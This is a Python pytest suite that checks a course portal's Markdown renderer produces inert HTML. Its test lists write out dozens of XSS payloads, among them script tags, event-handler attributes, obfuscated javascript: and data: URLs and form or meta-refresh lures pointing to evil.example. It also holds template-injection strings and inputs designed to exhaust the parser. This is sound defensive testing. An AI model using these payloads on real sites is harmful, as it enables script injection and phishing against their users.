"""Rendered course Markdown is inert (SECURITY.md XSS-01, XSS-02, QUIZ-14)."""

from __future__ import annotations

import time
from pathlib import Path
from urllib.parse import urlsplit

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.courses import (
    ALLOWED_TAGS,
    ContentTooComplexError,
    ContentTooLargeError,
    MarkdownLimitError,
    load_module_file,
    render_markdown,
)

FORBIDDEN_TAGS = {"script", "style", "iframe", "form", "object", "embed", "img", "svg", "input",
                  "base", "link", "meta", "math", "frame", "frameset", "textarea", "button"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}

# XSS-01: each way a payload has got past a Markdown pipeline somewhere.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<style>body { display: none }</style>",
    "<form action=\"https://evil.example\"><input name=password><button>Go</button></form>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"/ok\" onclick=\"alert(1)\" style=\"color:red\">x</a>",
    "<p onmouseover=\"alert(1)\">hover</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](java&#10;script:alert(1))",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<https://ok.example/?a=<script>>",
    "[r]: javascript:alert(1)\n\n[click][r]",
    "[r]: data:text/html,<script>alert(1)</script>\n\n[click][r]",
    "[x](https://ok.example \"title\" onclick=\"alert(1)\")",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"  JAVASCRIPT:alert(1)\">x</a>",
    "<div><a href=x onfocus=alert(1) autofocus>x</a></div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "> <img src=x onerror=alert(1)>",
    "- <svg onload=alert(1)>",
    "<a href='x' class='evil'>x</a><p class=\"evil\" id=\"x\">y</p>",
]

TEMPLATE_SYNTAX = ["{{ 7*7 }}", "{% if user %}secret{% endif %}", "{{ config.items() }}",
                   "{# comment #}", "${7*7}", "<%= 7*7 %>"]


def assert_inert(html: str) -> None:
    """The XSS-01 invariants: no active elements, no event handlers, only safe URL schemes."""
    fragment = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    for element in fragment.iter():
        if not isinstance(element.tag, str) or element.tag == "DOCUMENT_FRAGMENT":
            continue  # comments and the fragment root
        assert element.tag not in FORBIDDEN_TAGS, html
        assert element.tag in ALLOWED_TAGS, html
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), html
            assert name.lower() != "style", html
            if name.lower() in URL_ATTRIBUTES:
                assert_safe_url(value, html)


def assert_safe_url(url: str, html: str) -> None:
    # As the WHATWG URL parser does: trim C0 controls and spaces, drop tabs and newlines anywhere.
    squeezed = "".join(char for char in url.strip("".join(map(chr, range(33))))
                       if char not in "\t\n\r")
    scheme = urlsplit(squeezed).scheme.lower()
    assert scheme in {"", "http", "https", "mailto"}, html


def module_with(payload: str) -> str:
    return (
        "---\nid: payload\ntitle: Payload\nversion: 1\nquiz:\n  pass_mark: 50\n---\n\n"
        f"# Payload\n\n{payload}\n\n"
        "<quiz>\n"
        f"Question {payload}\n"
        f"- [x] Right {' '.join(payload.split())}\n"
        f"  > Feedback {' '.join(payload.split())}\n"
        "- [ ] Wrong\n\n"
        f"Explanation {payload}\n"
        "</quiz>\n"
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_inert_when_rendered(payload: str) -> None:
    html = render_markdown(payload)
    assert_inert(html)
    assert "alert(1)</script>" not in html.lower()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_inert_in_every_part_of_a_module(payload: str, tmp_path: Path) -> None:
    path = tmp_path / "01-payload.md"
    path.write_text(module_with(payload), encoding="utf-8")
    module, errors = load_module_file(path)
    if module is None:
        # A payload may break the quiz layout; it must then be refused, never half-loaded.
        assert errors
        return
    assert_inert(module.body_html)
    for question in module.questions:
        assert_inert(question.prompt_html)
        assert_inert(question.explanation_html)
        for answer in question.answers:
            assert_inert(answer.text_html)
            assert_inert(answer.feedback_html)


def test_links_keep_safe_urls_and_gain_rel_and_govuk_class() -> None:
    html = render_markdown("[a](https://example.org) [b](/support) [c](mailto:x@example.org)")
    assert html.count('rel="noopener noreferrer"') == 3
    assert html.count('class="govuk-link"') == 3
    for url in ("https://example.org", "/support", "mailto:x@example.org"):
        assert f'href="{url}"' in html


def test_author_classes_and_ids_are_replaced_by_govuk_classes() -> None:
    html = render_markdown('<p class="evil" id="x">y</p>\n\n- a\n\n1. b')
    assert 'class="evil"' not in html and 'id="x"' not in html
    assert '<p class="govuk-body">' in html
    assert '<ul class="govuk-list govuk-list--bullet">' in html
    assert '<ol class="govuk-list govuk-list--number">' in html


def test_headings_shift_so_the_body_starts_at_h2() -> None:
    assert render_markdown("# Title\n\n## Part", drop_title=True) == (
        '<h2 class="govuk-heading-m">Part</h2>')
    assert render_markdown("# One\n\n## Two\n\n#### Four\n\n###### Six") == (
        '<h2 class="govuk-heading-m">One</h2>\n<h3 class="govuk-heading-s">Two</h3>\n'
        '<h4 class="govuk-heading-s">Four</h4>\n<h4 class="govuk-heading-s">Six</h4>')


def test_inline_rendering_unwraps_a_single_paragraph() -> None:
    assert render_markdown("**True**", inline=True) == "<strong>True</strong>"
    assert render_markdown("a\n\nb", inline=True).count("<p") == 2


@pytest.mark.parametrize("template", TEMPLATE_SYNTAX)
def test_template_syntax_is_shown_literally(template: str) -> None:
    html = render_markdown(f"Before {template} after")
    text = "".join(html5lib.parseFragment(html, namespaceHTMLElements=False).itertext())
    assert template in text


def test_template_syntax_is_not_evaluated_when_inserted_into_jinja() -> None:
    jinja2 = pytest.importorskip("jinja2")
    markupsafe = pytest.importorskip("markupsafe")
    html = render_markdown("Shown as {{ 7*7 }} and {% if true %}yes{% endif %}")
    environment = jinja2.Environment(autoescape=True)
    page = environment.from_string("<main>{{ body }}</main>").render(body=markupsafe.Markup(html))
    assert "{{ 7*7 }}" in page and "{% if true %}yes{% endif %}" in page
    assert "49" not in page


def test_input_over_100_kb_is_refused_with_a_clear_message() -> None:
    with pytest.raises(ContentTooLargeError, match=r"limit is 100,000 bytes \(100 kB\)"):
        render_markdown("word " * 20_001)
    paragraph = "word " * 999 + "\n\n"
    render_markdown(paragraph * (99_000 // len(paragraph)))  # just under the cap still renders


PATHOLOGICAL = {
    "deep quotes": ">" * 5_000 + " x",
    "deep quotes spaced": "> " * 3_000 + "x",
    "deep lists on one line": "1. " * 3_000 + "x",
    "deep indented lists": "\n".join("    " * depth + "- x" for depth in range(60)),
    "unclosed brackets": "[" * 20_000,
    "unclosed image brackets": "![" * 10_000,
    "unclosed link targets": "[a](" * 5_000,
    "unclosed tags": "<a " * 2_000 + "\n\n" + "word " * 10_000,
    "one enormous paragraph": "word " * 4_000,
    "a block of many lines": "x\n" * 1_000,
}


@pytest.mark.parametrize("source", PATHOLOGICAL.values(), ids=PATHOLOGICAL.keys())
def test_pathological_input_is_refused_before_rendering(source: str) -> None:
    started = time.perf_counter()
    with pytest.raises(ContentTooComplexError):
        render_markdown(source)
    assert time.perf_counter() - started < 10  # loose: refusal must not depend on rendering


def test_a_large_ordinary_lesson_still_renders() -> None:
    paragraph = ("A champion listens, believes and signposts to [specialist support](/support). "
                 "**Never** contact the partner.\n\n- one\n- two\n\n")
    source = paragraph * (95_000 // len(paragraph))
    started = time.perf_counter()
    html = render_markdown(source)
    assert html.count("<li>") == 2 * (95_000 // len(paragraph))
    assert time.perf_counter() - started < 60  # loose on purpose: CI machines vary


def test_limit_errors_point_at_the_offending_line() -> None:
    with pytest.raises(MarkdownLimitError) as caught:
        render_markdown("fine\n\nfine\n\n" + "> " * 20 + "deep")
    assert caught.value.line == 4


FRAGMENTS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))", "[x](&#106;avascript:alert(1))", "<svg/onload=alert(1)>",
    "![x](data:text/html;base64,PHNjcmlwdD4=)", "<javascript:alert(1)>",
    "[r]: javascript:x\n[a][r]", "<a href=\"javascript:x\">", "<iframe src=x>", "<style>",
    "<form>", "\"", "'", "<", ">", "`", "*", "_", "[", "]", "(", ")", "> ", "- ", "1. ",
    "    ", "\n\n", "# ", "| a | b |\n|---|---|", "&#x3C;script&#x3E;", "{{ 7*7 }}", "onerror=",
    "javascript:", "<a ", "href=", "<!--", "-->", "<![CDATA[", "<p>", "</p>",
]


@settings(max_examples=300, deadline=None, database=None)
@given(st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=40)), max_size=12)
       .map("".join))
def test_any_markdown_renders_inert(source: str) -> None:
    try:
        html = render_markdown(source)
    except MarkdownLimitError:
        return  # refusing is a safe outcome
    assert_inert(html)


@settings(max_examples=300, deadline=None, database=None)
@given(st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=40)), max_size=12)
       .map("\n".join))
def test_any_markdown_lines_render_inert(source: str) -> None:
    try:
        html = render_markdown(source, inline=True)
    except MarkdownLimitError:
        return
    assert_inert(html)
